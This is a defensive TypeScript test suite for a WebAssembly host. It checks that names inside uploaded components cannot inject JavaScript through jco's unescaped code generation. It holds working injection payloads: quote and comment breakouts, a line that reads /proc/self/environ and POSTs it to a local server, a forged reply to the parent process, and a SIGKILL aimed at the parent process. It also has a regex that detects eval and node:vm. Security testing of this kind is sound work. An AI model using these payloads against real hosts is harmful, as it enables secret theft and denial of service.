// Guards that names in an upload are data, whatever they hold and wherever they stand: nothing of them is ever run.
//
// jco wrote names of core modules into JavaScript without escaping a quote, and the host evaluated that: a name read the host's files,
// spoke for its admin, answered for the linking process, and killed the host. The payloads below are those, and are shown to be live.

import { globSync, readFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { fileURLToPath } from 'node:url'
import { parse } from '@bytecodealliance/jco'
import { suite } from 'uvu'
import * as assert from 'uvu/assert'
import { interfaces } from '../../host/guest/layout.ts'
import { load } from '../../host/guest/load.ts'
import { defaultLimits } from '../../host/limits.ts'
import { readComponent } from '../../host/link/component.ts'
import type { LinkResult } from '../../host/link/link.ts'
import { link } from '../../host/link/link.ts'
import { pipeline } from '../../host/link/pipeline.ts'
import { renameExports } from '../support/guests.ts'
import { guestCore } from '../support/hostile.ts'
import { oracleOf } from '../support/oracle.ts'
import { Written } from '../support/written.ts'

const Escape = suite('escape')
const honest = renameExports(await guestCore({}))
const { about } = interfaces
const eventSourced = interfaces['event-sourced']

/** As it stands in text: every byte escaped. */
function inWat(name: string): string {
  return `"${[...Buffer.from(name)].map((byte) => `\\${byte.toString(16).padStart(2, '0')}`).join('')}"`
}

/** The frame of an honest service. */
function service(): Written {
  const component = new Written()
  const instance = component.coreInstantiate(component.coreModule(honest))
  const memory = component.coreAlias('memory', instance, 'memory')
  const type = component.funcType()
  const lift = (name: string) => component.lift(component.coreAlias('func', instance, name), type, memory)
  const asks = component.instance([['describe', 'func', lift(`${about}#describe`)]])
  const decides = component.instance([
    ['decide', 'func', lift(`${eventSourced}#decide`)],
    ['evolve', 'func', lift(`${eventSourced}#evolve`)],
  ])
  component.exportInstance(about, asks)
  component.exportInstance(eventSourced, decides)
  return component
}

const user = (from: string, name: string) =>
  parse(`(module
    (import ${inWat(from)} ${inWat(name)} (global $g i32))
    (func $start (if (i32.ne (global.get $g) (i32.const 42)) (then unreachable)))
    (start $start))`)

/** An honest service with a name in every position that has one. Its start traps unless the name leads to the right global. */
async function everywhere(name: string): Promise<Uint8Array> {
  const component = service()
  component.custom(name)
  const provider = component.coreInstantiate(
    component.coreModule(await parse(`(module (global (export ${inWat(name)}) i32 (i32.const 42)))`)),
  )
  const users = component.coreModule(await user(name, name))
  component.coreInstantiate(users, [[name, provider]])
  const put = component.coreInstance([[name, 'global', component.coreAlias('global', provider, name)]])
  component.coreInstantiate(users, [[name, put]])

  const inner = new Written()
  const given = inner.importInstance(name, inner.instanceType())
  inner.exportInstance(name, inner.alias('instance', inner.instance([[name, 'instance', given]]), name))
  const empty = component.instance([])
  const made = component.instantiate(component.component(inner.finish()), [[name, empty]])
  component.exportInstance(name, component.alias('instance', made, name))
  return component.finish()
}

function reasonsOf(result: LinkResult): string {
  return result.ok ? '' : result.reasons.join('; ')
}

const touched = globalThis as { escaped?: unknown }
/** Runs where a name in single quotes, double quotes, a template or a line of its own becomes a program. */
const payloads = {
  "'": "k': (globalThis.escaped = 1), //",
  '"': 'k": (globalThis.escaped = 1), //',
  '`': '`; globalThis.escaped = 1; //',
  'a placeholder': `$${''}{globalThis.escaped = 1}`,
  'a line': 'x\nglobalThis.escaped = 1\n//',
  'a line separator': 'x\u2028globalThis.escaped = 1\u2028//',
  'a comment': '*/ globalThis.escaped = 1 /*',
  'a backslash': "\\'; globalThis.escaped = 1; //",
}
const names: Readonly<Record<string, string>> = {
  ...Object.fromEntries(Object.entries(payloads).map(([what, name]) => [`a program behind ${what}`, name])),
  ...Object.fromEntries(
    ['__proto__', 'constructor', 'prototype', 'then', 'toString', 'hasOwnProperty', 'default', '0', '-1'].map(
      (name) => [name, name],
    ),
  ),
  'no text': '',
  'a space': ' ',
  NUL: 'a\0b',
  'a byte order mark': '\ufeff',
  'text of other scripts': 'naïve \u202eevil\u202c 名前 👩‍👩‍👧',
  '100 KB': 'n'.repeat(100_000),
}

for (const [what, name] of Object.entries(names)) {
  Escape(`link/plan.L1: a name that is ${what} links what it names, in every position, and runs nothing`, async () => {
    delete touched.escaped
    const result = await pipeline(await everywhere(name), defaultLimits, 1, () => {})
    assert.ok(result.ok, reasonsOf(result))
    assert.is(touched.escaped, undefined)
    if (!result.ok) return
    const { plan, description } = result.artefact
    assert.is(description.services[0]!.name, 't.Svc')
    const source = { from: 'instance', instance: 1, name }
    assert.equal(plan.instances.slice(2), Array(2).fill({ module: 2, imports: [{ module: name, name, source }] }))
    // The stored artefact is made of JSON.
    const stored = { ...result.artefact, plan: JSON.parse(JSON.stringify(plan)) }
    assert.ok(load(stored, defaultLimits).eventSourced)
  })

  Escape(`an import, an argument and an alias that nothing provides are refused in plain words: ${what}`, async () => {
    const imported = service()
    imported.importInstance(name, imported.instanceType())
    const missing = service()
    missing.coreInstantiate(missing.coreModule(await user(name, name)))
    const alias = service()
    alias.alias('func', 0, `${name}!`)
    for (const [component, reason] of [
      [imported, /^imports .*: components may import nothing/],
      [missing, /^module 1 imports ".*" ".*", which nothing provides$/],
      [alias, /^takes the func ".*" of an instance without it$/],
    ] as const) {
      const result = await pipeline(component.finish(), defaultLimits, 1, () => {})
      if (result.ok) assert.unreachable('was accepted')
      assert.match(reasonsOf(result), reason)
      assert.match(reasonsOf(result), /^[\x20-\x7e]{1,400}$/)
    }
  })
}

/** The component of the attack: one of its core modules exports a global by that name, another imports it. */
async function withProgram(payload: string): Promise<Uint8Array> {
  const name = `k': (${payload}), //`
  const component = service()
  const provider = component.coreInstantiate(
    component.coreModule(await parse(`(module (global (export ${inWat(name)}) i32 (i32.const 42)))`)),
  )
  component.coreInstantiate(component.coreModule(await user('ns', name)), [['ns', provider]])
  return component.finish()
}

/** Linked as every upload is, in the process for it. */
async function linked(payload: string): Promise<void> {
  const result = await link(await withProgram(payload), defaultLimits)
  assert.ok(result.ok, reasonsOf(result))
  if (!result.ok) return
  assert.is(result.artefact.description.services[0]!.name, 't.Svc')
  assert.is(result.artefact.modules.length, 3)
}

Escape('the payload is live: jco makes a program of it', async () => {
  delete touched.escaped
  const name = payloads["'"]
  const component = await parse(`(component
    (core module $a (global (export ${inWat(name)}) i32 (i32.const 42)))
    (core module $b (import "ns" ${inWat(name)} (global i32)))
    (core instance $i (instantiate $a))
    (core instance (instantiate $b (with "ns" (instance $i)))))`)
  await oracleOf(component, readComponent(component)).catch(() => {})
  assert.is(touched.escaped, 1)
})

Escape('a name cannot read files and send them', async () => {
  let heard = 0
  const server = createServer((_, response) => {
    heard++
    response.end()
  })
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening))
  const { port } = server.address() as AddressInfo
  const read = `process.getBuiltinModule('node:fs').readFileSync('/proc/self/environ', 'latin1')`
  // The parent ends the process with its first answer, so that had to wait.
  await linked(
    `(process.send = () => true), fetch('http://127.0.0.1:${port}/', { method: 'POST', body: ${read} }).then(() => process.exit(1))`,
  )
  assert.is(heard, 0)
  server.close()
})

Escape('a name cannot answer for the linking process', async () => {
  await linked(`process.send({ result: { ok: false, reasons: ['forged'] } }), new Promise(() => {})`)
})

Escape('a name cannot end the host, nor the linking process', async () => {
  // The parent is this test.
  await linked(`process.kill(process.ppid, 'SIGKILL')`)
  await linked(`process.exit(0)`)
})

Escape('pipeline.T1: nothing in the host makes code of text, and deploying knows no tool that does', async () => {
  const root = fileURLToPath(new URL('../../', import.meta.url))
  const code = /\beval\(|new Function\b|Function\(['"`]|['"]node:vm['"]|import\((?!['"])/
  // An author's own code while it is built, the compiler's parser, and the host's own files: no upload comes there.
  const own = ['sdk/build/languages/assemblyscript/folds.ts', 'host/bin/inn.mjs']
  const sources = globSync('{host,sdk/build}/**/*.{ts,mjs}', { cwd: root })
  assert.ok(sources.length > 100)
  for (const file of sources) {
    const text = readFileSync(`${root}${file}`, 'utf8')
    if (!own.includes(file)) assert.not.match(text, code, file)
    if (/^host\/(deploy|guest)\//.test(file)) assert.not.match(text, /from '@bytecodealliance/, file)
  }
})

Escape.run()
